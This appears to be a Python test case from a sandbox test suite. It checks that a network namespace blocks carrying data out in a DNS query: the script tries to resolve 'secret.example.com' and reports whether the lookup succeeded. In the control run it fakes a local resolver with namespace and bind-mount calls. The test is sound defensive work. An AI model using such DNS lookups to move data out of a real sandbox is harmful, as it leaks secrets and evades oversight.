# /// attack
# tries = "carry data out in a DNS query"
# requirement = "N1"
# layer = "network namespace"
# [control]
# stdout = "reached 192.0.2.7"
# [inside]
# stdout = "blocked EAI_NONAME"
# within = 20
# ///
import ctypes
import fcntl
import json
import socket
import struct
import sys
import threading


def answer_one(server):
    query, sender = server.recvfrom(512)
    end = query.index(b"\0", 12) + 5
    record = struct.pack("!HHHIH4s", 0xC00C, 1, 1, 60, 4, socket.inet_aton("192.0.2.7"))
    server.sendto(query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + query[12:end] + record, sender)


if json.loads(sys.argv[1])["outside"]:
    # A resolver that answers, in network and mount namespaces of its own.
    libc = ctypes.CDLL(None)
    assert libc.unshare(0x40020000) == 0  # CLONE_NEWNET | CLONE_NEWNS
    assert libc.mount(None, b"/", None, 0x44000, None) == 0  # MS_REC | MS_PRIVATE
    for name, text in {"resolv.conf": "nameserver 127.0.0.1\n", "nsswitch.conf": "hosts: dns\n"}.items():
        with open(name, "w") as file:
            file.write(text)
        assert libc.mount(name.encode(), f"/etc/{name}".encode(), None, 4096, None) == 0  # MS_BIND
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(server, 0x8914, struct.pack("16sH22x", b"lo", 0x41))
    server.bind(("127.0.0.1", 53))
    threading.Thread(target=answer_one, args=(server,), daemon=True).start()
try:
    print("reached", socket.getaddrinfo("secret.example.com", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
except socket.gaierror as error:
    names = {getattr(socket, name): name for name in dir(socket) if name.startswith("EAI_")}
    print("blocked", names[error.errno])
